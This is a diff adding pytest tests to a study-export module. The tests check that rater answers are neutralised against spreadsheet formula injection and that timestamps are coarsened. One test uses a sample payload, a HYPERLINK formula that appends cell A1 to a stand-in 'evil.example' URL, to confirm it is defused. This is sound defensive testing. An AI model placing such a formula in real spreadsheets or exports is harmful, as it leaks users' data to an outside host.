@@ -2,6 +2,7 @@
 
 import csv
 import json
+from datetime import datetime
 from pathlib import Path
 
 import numpy as np
@@ -10,13 +11,14 @@ import pytest
 from balanced_scenes import FURNITURE, make_balanced_scenes
 from genchal.campaign.reading.instances import load_instances
 from genchal.campaign.studies.create import StudyMaterial, plan_study, store_plans
-from genchal.campaign.studies.export import TIMES, export_study
+from genchal.campaign.studies.export import TIMES, TimeUnit, export_study
 from genchal.campaign.studies.stored import RunningStudy, read_study
 from genchal.domain import Instance, Scene
 from genchal.domain.scenes.places import stated_places
 from genchal.domain.study.keys import parse_design
 from genchal.elicitation.attribute_marking import read_attribute_set
 from genchal.errors import InvalidInput
+from genchal.resources.spreadsheets import defuse_formulas
 from genchal.store.export import list_answered_sheets, read_ratings
 from genchal.store.store import Store
 from web.raters import Clock, Person, serve_study
@@ -173,3 +175,51 @@ def test_other_methods_have_no_attribute_sets(one_store: Store, tmp_path: Path) 
     with pytest.raises(InvalidInput, match="its method is likert"):
         export_study(one_store, "study", attribute_sets=tmp_path / "x.xml")
     assert not list(tmp_path.iterdir())
+
+
+def test_texts_of_raters_are_no_formulas_in_spreadsheets(one_store: Store, clock: Clock, tmp_path: Path) -> None:
+    study = serve_study(one_store, "writing", count=1, allowed="", raters_per_item=1)
+    evil = '=HYPERLINK("http://evil.example?"&A1,"more")'
+    person = Person(one_store, clock, study)
+    person.start()
+    person.send(dict.fromkeys(person.answers(), evil))
+    for suffix in (".csv", ".tsv"):
+        export_study(one_store, "study", texts=tmp_path / f"texts{suffix}")
+    (row,) = rows_of(tmp_path / "texts.csv")
+    assert row["value"] == json.dumps(evil)  # as spreadsheets see it: a text in quotes
+    with (tmp_path / "texts.tsv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file, delimiter="\t")  # takes quotes away, as spreadsheets do
+    assert row["value"] == f"'{json.dumps(evil)}"
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        *((text, f"'{text}") for text in ("=1+1", "+a", "-a", "@a", "\t=1", " =1", "\uff1d1", "-1-1", "+1_0")),
+        *((text, text) for text in ("-1", "+1", "-1.5e-3", "1", "", "a=b", "'=1", "text")),
+    ],
+)
+def test_formulas_become_texts_and_numbers_stay(text: str, written: str) -> None:
+    assert defuse_formulas(".csv", ["name", "value"], [(text, text)], {"value"}) == [(text, written)]
+    assert defuse_formulas(".jsonl", ["value"], [(text,)], {"value"}) == [(text,)]
+
+
+@pytest.mark.parametrize(
+    ("unit", "start"), [("hour", "2027-01-15T08:00"), ("day", "2027-01-15T00:00"), ("week", "2027-01-11T00:00")]
+)
+def test_moments_are_coarsened_on_request_and_durations_stay(
+    one_store: Store, clock: Clock, tmp_path: Path, unit: TimeUnit, start: str
+) -> None:
+    study = serve_study(one_store, count=1, raters_per_item=1)
+    person = Person(one_store, clock, study)
+    clock.now += 1234.5
+    person.start()
+    person.work()
+    out, times = tmp_path / "ratings.csv", tmp_path / "times.csv"
+    export_study(one_store, "study", out, times=times, coarse_times=unit)
+    moment = datetime.fromisoformat(f"{start}+00:00").timestamp()
+    for row in [*rows_of(out), *rows_of(times)]:
+        assert float(row["shown_at"]) == moment
+        assert float(row["answered_at"]) == moment + 30
+    export_study(one_store, "study", out)
+    assert {float(row["shown_at"]) for row in rows_of(out)} != {moment}
